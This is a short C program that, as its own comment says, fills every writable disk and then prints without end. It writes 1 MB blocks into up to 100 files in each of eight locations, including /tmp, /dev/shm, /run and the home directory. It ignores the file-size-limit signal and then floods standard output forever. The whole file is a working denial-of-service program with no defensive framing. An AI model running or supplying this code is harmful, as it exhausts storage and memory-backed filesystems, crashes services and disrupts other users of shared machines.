/* Fills every disk that it may write to, and prints without end. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    static char bytes[1 << 20];
    const char *folders[] = {".", "html", "..", "/tmp", "/var/tmp", "/dev/shm", "/run", getenv("HOME") ? getenv("HOME") : "/"};
    signal(SIGXFSZ, SIG_IGN);
    memset(bytes, 'x', sizeof bytes);
    for (int i = 0; i < 8; i++)
        for (int number = 0; number < 100; number++) {
            char name[4096];
            snprintf(name, sizeof name, "%s/fill-%d", folders[i], number);
            int file = open(name, O_CREAT | O_WRONLY, 0600);
            while (file >= 0 && write(file, bytes, sizeof bytes) > 0)
                continue;
        }
    for (;;)
        if (write(1, bytes, sizeof bytes) < 0) pause();
}
